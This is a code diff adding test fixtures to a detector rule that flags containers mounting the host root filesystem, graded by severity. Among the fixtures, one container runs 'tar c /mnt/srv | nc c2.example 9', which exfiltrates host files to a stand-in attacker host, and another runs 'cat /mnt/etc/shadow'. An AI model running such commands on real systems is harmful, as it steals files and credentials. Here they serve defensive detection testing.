@@ -1,4 +1,4 @@
-import { bind, containerWith, idOf, intruderWith } from '../testing/container';
+import { bind, containerWith, idOf, intruderWith, published } from '../testing/container';
 import { ruleTable } from '../testing/table';
 import { containerHostRootMounted } from './container-host-root-mounted';
 
@@ -27,6 +27,62 @@ ruleTable(containerHostRootMounted, {
     },
   },
   fails: {
+    'a stranger’s copy of an agent in a project reads; started by hand it is asked about': {
+      facts: {
+        containers: [{}, { labels: {} }].map((changes, at) =>
+          containerWith({
+            name: `agent${at}`,
+            imageRef: 'ghcr.io/stranger/cadvisor',
+            path: '/usr/bin/cadvisor',
+            args: [],
+            mounts: [bind('/', '/rootfs', { writable: false })],
+            ...changes,
+          }),
+        ),
+      },
+      finds: [
+        { subject: idOf('agent0'), severity: 'medium' },
+        { subject: idOf('agent1'), severity: 'high' },
+      ],
+    },
+    'a service of a project manages files; without a door for users it stays in question': {
+      facts: {
+        containers: [[published('8000->8000')], []].map((ports, at) =>
+          containerWith({
+            name: `files${at}`,
+            imageRef: 'stranger/files',
+            path: '/app/server',
+            args: [],
+            ports,
+            mounts: [bind('/', '/fs')],
+          }),
+        ),
+      },
+      finds: [
+        { subject: idOf('files0'), severity: 'medium' },
+        { subject: idOf('files1'), severity: 'high' },
+      ],
+    },
+    'a bare system that takes itself away reads the host; one that sends or asks for secrets is no reader': {
+      facts: {
+        containers: ['chkrootkit -r /mnt', 'tar c /mnt/srv | nc c2.example 9', 'cat /mnt/etc/shadow'].map((line, at) =>
+          containerWith({
+            name: `look${at}`,
+            imageRef: 'debian:12',
+            labels: {},
+            autoRemove: true,
+            path: 'sh',
+            args: ['-c', line],
+            mounts: [bind('/', '/mnt', { writable: false })],
+          }),
+        ),
+      },
+      finds: [
+        { subject: idOf('look0'), severity: 'medium' },
+        { subject: idOf('look1'), severity: 'high' },
+        { subject: idOf('look2'), severity: 'high' },
+      ],
+    },
     'the incident': {
       facts: { containers: [containerWith(), intruderWith({ mounts: [bind('/', '/mnt')] })] },
       finds: [
@@ -68,8 +124,8 @@ ruleTable(containerHostRootMounted, {
       }),
       finds: [{ subject: idOf('web'), severity: 'critical' }],
     },
-    'read-only': {
-      ...one({ mounts: [bind('/', '/rootfs', { writable: false })] }),
+    'read-only, and of no project': {
+      ...one({ labels: {}, mounts: [bind('/', '/rootfs', { writable: false })] }),
       finds: [{ subject: idOf('web'), severity: 'high', says: 'read-only' }],
     },
     'an agent that has it read-write': {
@@ -79,6 +135,7 @@ ruleTable(containerHostRootMounted, {
     'a stranger that calls itself an agent': {
       ...one({
         imageRef: 'evil/node-exporter',
+        labels: {},
         mounts: [bind('/', '/host', { writable: false, propagation: 'rslave' })],
       }),
       finds: [{ subject: idOf('web'), severity: 'high' }],
